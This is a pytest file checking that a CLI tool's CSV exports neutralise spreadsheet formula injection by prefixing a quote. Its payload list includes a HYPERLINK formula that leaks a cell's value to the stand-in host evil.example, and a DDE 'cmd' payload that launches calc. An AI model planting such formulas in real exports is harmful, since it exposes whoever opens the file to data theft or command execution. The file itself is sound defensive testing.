"""CSV exports never hand a spreadsheet a formula: the shared neutraliser
(accord.core.spreadsheet) on OWASP's payloads, and `accord analyze` writing CSV through it."""

from __future__ import annotations

import csv
import gzip
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from accord.cli.main import app
from accord.core.spreadsheet import neutralise_cell

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "Click for your refund")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "=1+1",
    '＝HYPERLINK("https://evil.example")',  # full-width forms: some locales fold them
    "＋1+1",
    "－2+3",
    "＠SUM(1)",
    "-",
    "=",
]
HARMLESS = ["", "Where is my parcel?", "1+1", "-2", "+3", "-0.5", "1e-3", ".5", "'=1", "a=b"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_leading_quote_and_keep_their_text(payload: str) -> None:
    assert neutralise_cell(payload) == "'" + payload
    assert neutralise_cell(neutralise_cell(payload)) == "'" + payload  # once is enough


@pytest.mark.parametrize("value", HARMLESS)
def test_text_and_plain_numbers_are_left_alone(value: str) -> None:
    assert neutralise_cell(value) == value


def _rows() -> list[dict[str, str]]:
    rows = [{"id": str(i), "delta": "-5", "text": p} for i, p in enumerate(PAYLOADS)]
    return [*rows, {"id": "x", "delta": "+2", "text": "Where is my parcel? It was due Monday."}]


def _write(path: Path, rows: list[dict[str, str]], header: list[str]) -> None:
    opener = gzip.open if path.suffix == ".gz" else open
    with opener(path, "wt", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows([list(r.values()) for r in rows])


@pytest.mark.parametrize("name", ["tickets.csv", "tickets.csv.gz"])
def test_analyze_writes_csv_no_spreadsheet_runs(tmp_path: Path, name: str) -> None:
    rows = _rows()
    src = tmp_path / name
    _write(src, rows, ["id", '=HYPERLINK("x")', "text"])
    result = CliRunner().invoke(app, ["analyze", str(src), "--text-col", "text"])
    assert result.exit_code == 0, result.output
    out_path = tmp_path / name.replace("tickets.csv", "tickets.analysed.csv")
    opener = gzip.open if name.endswith(".gz") else open
    with opener(out_path, "rt", newline="", encoding="utf-8") as fh:
        header, *cells = list(csv.reader(fh))
    assert header[:3] == ["id", '\'=HYPERLINK("x")', "text"]
    # The text may also be redacted (links, personal data): compare where a formula starts.
    texts = [row[2] for row in cells]
    assert [t[:2] for t in texts[:-1]] == ["'" + p[:1] for p in PAYLOADS]
    assert texts[-1] == rows[-1]["text"]
    assert [row[1] for row in cells] == ["-5"] * len(PAYLOADS) + ["+2"]  # numbers untouched
    assert all(neutralise_cell(cell) == cell for row in cells for cell in row)  # all neutral


def test_jsonl_output_is_data_not_a_spreadsheet_and_keeps_the_text(tmp_path: Path) -> None:
    src = tmp_path / "tickets.jsonl"
    src.write_text("".join(json.dumps({"text": p}) + "\n" for p in PAYLOADS), encoding="utf-8")
    assert CliRunner().invoke(app, ["analyze", str(src)]).exit_code == 0
    lines = (tmp_path / "tickets.analysed.jsonl").read_text(encoding="utf-8").splitlines()
    texts = [json.loads(line)["text"] for line in lines]
    assert [t[:1] for t in texts] == [p[:1] for p in PAYLOADS]  # no quote added
    assert texts[1:4] == PAYLOADS[1:4]
